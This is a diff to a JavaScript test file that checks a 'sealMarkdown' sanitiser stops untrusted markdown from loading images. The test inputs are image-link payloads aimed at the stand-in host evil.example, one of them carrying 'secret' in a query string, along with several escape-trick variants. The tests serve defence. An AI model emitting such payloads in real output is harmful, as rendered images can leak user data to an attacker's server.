@@ -81,3 +81,19 @@ describe('Markdown of others', () => {
     }
   });
 });
+
+it.each([
+  '![x](https://evil.example/?q=secret)',
+  '\\![x](https://evil.example/a.png)',
+  '\\\\![x][ref]\n\n[ref]: https://evil.example/a.png',
+  '[![x](https://evil.example/a.png)](https://b)',
+  '- ![x\ny](https://evil.example/a.png)',
+  '!\\![x](https://evil.example/a.png)',
+  '&#33;![x](https://evil.example/a.png)',
+])('fetches no image: %s', text => {
+  expect(tokensOf(sealMarkdown(text)).filter(({ type }) => type === 'image')).toEqual([]);
+});
+
+it('keeps the signs of an image in code', () => {
+  expect(sealMarkdown('say `![x](y)` so')).toBe('say `![x](y)` so');
+});
